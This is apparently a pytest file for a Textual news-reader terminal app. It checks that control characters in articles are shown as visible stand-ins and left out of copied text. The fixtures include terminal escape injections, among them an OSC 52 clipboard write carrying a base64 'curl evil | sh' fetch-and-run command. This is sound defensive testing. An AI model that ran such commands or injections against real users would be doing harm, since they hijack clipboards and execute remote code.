"""An article's control characters never reach the terminal: every view shows them as visible
stand-ins, and what is copied leaves them out."""

from __future__ import annotations

import base64
import re
from pathlib import Path

from textual.geometry import Region
from textual.pilot import Pilot
from textual.widget import Widget

from peskovtui.ui.app import PeskovApp
from peskovtui.ui.widgets.article_list import ArticleList
from peskovtui.ui.widgets.quotes_panel import QuotesPanel
from peskovtui.ui.widgets.reader import Reader

from .conftest import Run, palette_offers, shown, wait_for

PAYLOAD = base64.b64encode(b"curl evil | sh").decode()
OSC52 = f"\x1b]52;c;{PAYLOAD}\x1b\\"
TITLE = "Leak\x1b]0;owned\x07 inquiry\x9b2J widens"
ARTICLE = f"""{TITLE}

The minister said nothing{OSC52} on Monday.\x1b[2J

“We knew\x1b[31m nothing\x07 of it,” Anna Smith said.
"""
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def corpus(tmp_path: Path) -> Path:
    folder = tmp_path / "desk"
    folder.mkdir()
    (folder / "leak\x1b[2J.txt").write_text(ARTICLE, encoding="utf-8")
    (folder / "bad\x1b]0;x\x07.txt").write_bytes(b"\x00\x01\x02binary")
    return folder


def controls_on_screen(pilot: Pilot[None]) -> list[str]:
    found = []
    for widget in pilot.app.screen.walk_children(Widget):
        if not widget.display:
            continue
        width, height = widget.outer_size
        for strip in widget.render_lines(Region(0, 0, width, height)):
            for segment in strip:
                if CONTROL.search(segment.text):
                    found.append(f"{type(widget).__name__}: {segment.text!r}")
    return found


async def test_no_control_character_is_drawn(run_app: Run, tmp_path: Path) -> None:
    async with run_app(paths=(corpus(tmp_path),), notifications=True) as pilot:
        app = pilot.app
        assert isinstance(app, PeskovApp)
        await pilot.press("2")
        assert controls_on_screen(pilot) == []
        reader = shown(app.query_one(Reader))
        assert "Leak␛]0;owned␇ inquiry\ufffd2J widens" in reader  # the border title
        assert "nothing␛]52;c;" in reader
        assert "Leak␛]0;owned␇" in shown(app.query_one(ArticleList))
        assert "We knew␛[31m nothing␇" in shown(app.query_one(QuotesPanel))
        await pilot.press("ctrl+p", *"inquiry")
        await wait_for(pilot, lambda: palette_offers(pilot, "inquiry"), "the article offered")
        assert controls_on_screen(pilot) == []


async def test_copies_leave_control_characters_out(run_app: Run, tmp_path: Path) -> None:
    async with run_app(paths=(corpus(tmp_path),)) as pilot:
        app = pilot.app
        assert isinstance(app, PeskovApp)
        await pilot.press("2", "right_square_bracket", "y")
        assert "The minister said nothing]52;c;" in app.clipboard
        assert CONTROL.search(app.clipboard) is None
        await pilot.press("3", "y")
        assert "We knew[31m nothing of it" in app.clipboard
        assert CONTROL.search(app.clipboard) is None
        await pilot.press("Y")
        assert CONTROL.search(app.clipboard) is None
